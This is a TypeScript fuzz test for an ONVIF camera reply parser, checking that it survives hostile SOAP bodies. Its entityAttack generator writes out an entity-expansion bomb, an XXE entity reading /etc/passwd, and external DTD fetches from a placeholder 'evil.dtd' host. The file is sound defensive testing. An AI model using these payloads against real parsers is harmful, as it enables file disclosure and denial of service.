/**
 * ONVIF SOAP replies (what a camera, or anything listening on its port, answers our device-service calls) under
 * hostile bodies: entity bombs, 64 KiB+, deep nesting, thousands of siblings, invalid UTF-8, control characters
 * and HTML in names, prototype-named elements. readEnvelope never throws and answers a body, a fault or a typed
 * failure whose sentence names the host, never the body; the field readers stay within their caps and hand on no
 * control character; nothing reaches Object.prototype.
 */
import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { MAX_DEVICE_REPLY_BYTES } from '../../electron/core/devices/failure.js';
import { deviceInformation, faultFailure, networkInterfaces, readEnvelope, scopes } from '../../electron/core/devices/onvif/parse.js';
import { FUZZ, FUZZ_TIMEOUT_MS, invalidUtf8, nastyText, PROTOTYPE_NAMES, prototypeKeys, RUNS } from './hostile.js';
import { bounded } from './work.js';

const DIR = new URL('../fixtures/onvif/', import.meta.url);
const FIXTURES = readdirSync(DIR)
  .filter((name) => name.endsWith('.xml'))
  .sort()
  .map((name) => readFileSync(new URL(name, DIR), 'utf8'));
const before = prototypeKeys();
const CONTROL = /\p{Cc}/u;
const MAC = /^[0-9a-f]{2}(:[0-9a-f]{2}){5}$/;
const HOST = '198.18.0.21';
const escape = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;');
const ENV =
  'xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:tds="http://www.onvif.org/ver10/device/wsdl" xmlns:tt="http://www.onvif.org/ver10/schema"';
const envelope = (body: string) => `<?xml version="1.0" encoding="UTF-8"?><s:Envelope ${ENV}><s:Body>${body}</s:Body></s:Envelope>`;

const mutated = fc
  .tuple(
    fc.constantFrom(...FIXTURES),
    fc.array(fc.tuple(fc.nat(), fc.constantFrom('<', '>', '&', '"', '/', ':', '\u0000', '', 'x', '<!--', ']]>')), {
      minLength: 1,
      maxLength: 10,
    }),
  )
  .map(([text, edits]) => {
    let out = text;
    for (const [at, piece] of edits) {
      const i = at % Math.max(1, out.length);
      out = out.slice(0, i) + piece + out.slice(i + (piece === '' ? 1 : 0));
    }
    return out;
  });

/** Plausible replies of each kind whose text is hostile, escaped (valid XML) or raw (markup breaks it on purpose). */
const hostileReply = fc
  .record({
    kind: fc.constantFrom('info', 'interfaces', 'scopes', 'fault12', 'fault11'),
    values: fc.array(nastyText, { minLength: 6, maxLength: 6 }),
    element: fc.constantFrom(...PROTOTYPE_NAMES, 'Manufacturer', 'NetworkInterfaces', 'Subcode'),
    repeat: fc.integer({ min: 1, max: 40 }),
    raw: fc.boolean(),
  })
  .map(({ kind, values, element, repeat, raw }) => {
    const put = raw ? (t: string) => t : escape;
    const [a = '', b = '', c = '', d = '', e = '', f = ''] = values.map(put);
    const extra = `<tds:${element}><tt:polluted>yes</tt:polluted></tds:${element}>`;
    if (kind === 'info') {
      return envelope(
        `<tds:GetDeviceInformationResponse>${extra}<tds:Manufacturer>${a}</tds:Manufacturer><tds:Model>${b}</tds:Model>` +
          `<tds:FirmwareVersion>${c}</tds:FirmwareVersion><tds:SerialNumber>${d}</tds:SerialNumber><tds:HardwareId>${e}</tds:HardwareId>` +
          `</tds:GetDeviceInformationResponse>`,
      );
    }
    if (kind === 'interfaces') {
      const one =
        `<tds:NetworkInterfaces token="${a.replace(/"/g, '&quot;')}"><tt:Enabled>${b}</tt:Enabled><tt:Info><tt:Name>${c}</tt:Name>` +
        `<tt:HwAddress>${d}</tt:HwAddress></tt:Info><tt:IPv4><tt:Config><tt:Manual><tt:Address>${e}</tt:Address></tt:Manual>` +
        `<tt:FromDHCP><tt:Address>198.18.0.21</tt:Address></tt:FromDHCP></tt:Config></tt:IPv4>${extra}</tds:NetworkInterfaces>`;
      return envelope(`<tds:GetNetworkInterfacesResponse>${one.repeat(repeat)}</tds:GetNetworkInterfacesResponse>`);
    }
    if (kind === 'scopes') {
      const one = `<tds:Scopes><tt:ScopeDef>Fixed</tt:ScopeDef><tt:ScopeItem>onvif://www.onvif.org/name/${f}</tt:ScopeItem></tds:Scopes>`;
      return envelope(`<tds:GetScopesResponse>${one.repeat(repeat * 3)}${extra}</tds:GetScopesResponse>`);
    }
    if (kind === 'fault12') {
      const subcodes = `<s:Subcode><s:Value>${b}</s:Value>`.repeat(repeat % 20) + '</s:Subcode>'.repeat(repeat % 20);
      return envelope(
        `<s:Fault><s:Code><s:Value>s:${a}</s:Value>${subcodes}</s:Code><s:Reason><s:Text xml:lang="en">${c}</s:Text></s:Reason></s:Fault>`,
      );
    }
    return envelope(`<s:Fault><faultcode>${a}</faultcode><faultstring>${b}${d}</faultstring>${extra}</s:Fault>`);
  });

const entityAttack = fc
  .constantFrom(
    '<!DOCTYPE s:Envelope [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    '<!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE s:Envelope SYSTEM "http://198.18.0.1/evil.dtd">',
    '<!doctype x [<!ENTITY % p SYSTEM "http://198.18.0.1/p">%p;]>',
    '',
  )
  .chain((dtd) =>
    fc
      .constantFrom('&c;', '&xxe;', '&#1114112;&#0;', '&amp;&#x26;amp;', '&lt;!ENTITY x "y"&gt;')
      .map(
        (ref) =>
          `<?xml version="1.0"?>${dtd}<s:Envelope ${ENV}><s:Body><tds:GetDeviceInformationResponse><tds:Manufacturer>${ref}</tds:Manufacturer>` +
          `</tds:GetDeviceInformationResponse></s:Body></s:Envelope>`,
      ),
  );

const deep = fc
  .integer({ min: 20, max: 3000 })
  .map((depth) => envelope(`<tds:GetScopesResponse>${'<tt:x>'.repeat(depth)}t${'</tt:x>'.repeat(depth)}</tds:GetScopesResponse>`));

/** Thousands of empty siblings: parsing them is the expensive case, refused by counting `<` first. */
const siblings = fc
  .integer({ min: 3000, max: 20_000 })
  .map((count) => envelope(`<tds:GetScopesResponse>${'<tds:Scopes/>'.repeat(count)}</tds:GetScopesResponse>`));

const sizeEdge = fc
  .tuple(
    fc.constantFrom(...FIXTURES),
    fc.constantFrom(MAX_DEVICE_REPLY_BYTES - 1, MAX_DEVICE_REPLY_BYTES, MAX_DEVICE_REPLY_BYTES + 1, 200_000),
    fc.constantFrom(' ', 'é', 'a', '\u0001'),
  )
  .map(([text, size, pad]) => {
    const at = text.lastIndexOf('</');
    return (text.slice(0, at) + pad.repeat(Math.max(0, size - text.length)) + text.slice(at)).slice(0, size);
  });

/** Invalid UTF-8 inside a reply, decoded the way the HTTP port decodes bodies (replacement characters). */
const brokenUtf8 = fc.tuple(fc.constantFrom(...FIXTURES), invalidUtf8, fc.nat()).map(([text, bad, at]) => {
  const bytes = new TextEncoder().encode(text);
  const i = at % bytes.length;
  return new TextDecoder().decode(Uint8Array.from([...bytes.slice(0, i), ...bad, ...bytes.slice(i)]));
});

const reply = fc.oneof(
  { arbitrary: mutated, weight: 8 },
  { arbitrary: hostileReply, weight: 10 },
  { arbitrary: entityAttack, weight: 2 },
  { arbitrary: deep, weight: 2 },
  { arbitrary: siblings, weight: 1 },
  { arbitrary: sizeEdge, weight: 1 },
  { arbitrary: brokenUtf8, weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 400 }).map((t) => `<${t}`), weight: 2 },
);

const sentence = (message: string) => {
  // A sentence: a capital or the camera's address first ("198.18.0.21 answered, but …"), a full stop last.
  expect(message).toMatch(/^[A-Z0-9].*[.!?"]$/s);
  expect(message.length).toBeLessThan(600);
  expect(CONTROL.test(message)).toBe(false);
};

describe('fuzz: ONVIF SOAP replies', () => {
  afterAll(() => {
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(prototypeKeys()).toEqual(before);
  });

  it(
    `readEnvelope → field readers: ${RUNS} hostile replies, a body, a fault or a typed failure, always bounded`,
    () => {
      const seen = { body: 0, fault: 0, failed: 0 };
      fc.assert(
        fc.property(reply, (text) => {
          const read = bounded('readEnvelope', text.length, () => readEnvelope(text, HOST));
          if (!read.ok) {
            seen.failed++;
            expect(['bad-reply', 'not-supported']).toContain(read.failure.kind);
            expect(read.failure.message).toContain(HOST);
            sentence(read.failure.message);
            return;
          }
          if (read.value.kind === 'fault') {
            seen.fault++;
            const { codes, reason } = read.value.fault;
            expect(codes.length).toBeLessThanOrEqual(9);
            expect(reason.length).toBeLessThanOrEqual(200);
            const failure = faultFailure(read.value.fault, HOST, 400);
            expect(failure.ok).toBe(false);
            if (!failure.ok) sentence(failure.failure.message);
            return;
          }
          seen.body++;
          const body = read.value.body;
          const info = bounded('deviceInformation', text.length, () => deviceInformation(body, HOST));
          if (info.ok) {
            for (const value of Object.values(info.value)) {
              expect(value.length).toBeLessThanOrEqual(128);
              expect(CONTROL.test(value)).toBe(false);
            }
          } else sentence(info.failure.message);
          const interfaces = bounded('networkInterfaces', text.length, () => networkInterfaces(body));
          expect(interfaces.length).toBeLessThanOrEqual(16);
          for (const iface of interfaces) {
            expect(iface.token.length).toBeLessThanOrEqual(64);
            expect(iface.name.length).toBeLessThanOrEqual(64);
            expect(CONTROL.test(iface.token + iface.name)).toBe(false);
            if (iface.mac !== null) expect(iface.mac).toMatch(MAC);
            expect(iface.ipv4.length).toBeLessThanOrEqual(24);
            for (const ip of iface.ipv4) expect(ip).toMatch(/^\d{1,3}(\.\d{1,3}){3}$/);
          }
          const items = bounded('scopes', text.length, () => scopes(body));
          expect(items.length).toBeLessThanOrEqual(64);
          for (const item of items) {
            expect(item.length).toBeGreaterThan(0);
            expect(item.length).toBeLessThanOrEqual(512);
            expect(CONTROL.test(item)).toBe(false);
          }
          expect(({} as Record<string, unknown>).polluted).toBeUndefined();
        }),
        FUZZ,
      );
      // Every outcome is reached many times: the generators test the readers, not only the front door.
      expect(Math.min(seen.body, seen.fault, seen.failed)).toBeGreaterThan(RUNS / 20);
    },
    FUZZ_TIMEOUT_MS,
  );
});
